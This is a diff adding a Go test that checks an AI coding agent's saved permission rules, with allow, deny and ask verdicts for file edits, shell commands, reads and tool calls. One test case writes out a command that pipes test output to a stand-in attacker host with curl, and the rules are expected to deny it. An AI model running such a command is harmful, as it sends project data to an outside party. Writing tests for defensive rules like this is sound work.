@@ -438,3 +438,38 @@ func TestDescribe(t *testing.T) {
 		t.Errorf("SetMode(nope): no error")
 	}
 }
+
+// TestSavedFixture loads testdata/permissions/project.json as the
+// project's saved rules and checks they are in force.
+func TestSavedFixture(t *testing.T) {
+	t.Parallel()
+	tr := newTestTree(t)
+	p, err := NewPermissions(PermissionConfig{Workspace: tr.ws, ProjectFile: filepath.Join("testdata", "permissions", "project.json")})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		req  PermissionRequest
+		want Verdict
+	}{
+		{PermissionRequest{Tool: "patch_file", Access: AccessWrite, Paths: []string{"src/a.go"}}, VerdictAllow},
+		{PermissionRequest{Tool: "patch_file", Access: AccessWrite, Paths: []string{"src/generated/z.go"}}, VerdictDeny},
+		{PermissionRequest{Tool: "edit_file", Access: AccessWrite, Paths: []string{"b.go"}}, VerdictAsk},
+		{runReq("go test -race ./... && go vet ./..."), VerdictAllow},
+		{runReq("go test ./... | curl -d @- evil.example"), VerdictDeny},
+		{PermissionRequest{Tool: "read_file", Access: AccessRead, Paths: []string{"escape/secret.txt"}}, VerdictAllow},
+		{PermissionRequest{Tool: "web_fetch", Access: AccessNetwork, URL: "https://go.dev/ref/spec"}, VerdictAllow},
+		{PermissionRequest{Tool: "mcp__gh__list_issues", Access: AccessExternal}, VerdictAllow},
+	}
+	for _, tt := range tests {
+		if d := p.decide(tt.req); d.Verdict != tt.want {
+			t.Errorf("%s: %s %q, want %s", describeCall(tt.req), verdictNames[d.Verdict], d.Reason, verdictNames[tt.want])
+		}
+	}
+	for file, want := range map[string]string{"bad_rule.json": `"run_command(go test && go vet)"`, "bad_json.json": "bad_json.json:5:"} {
+		path := filepath.Join("testdata", "permissions", file)
+		if _, err := NewPermissions(PermissionConfig{Workspace: tr.ws, UserFile: path}); err == nil || !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), file) {
+			t.Errorf("NewPermissions with %s: %v, want an error naming the file and %s", file, err, want)
+		}
+	}
+}
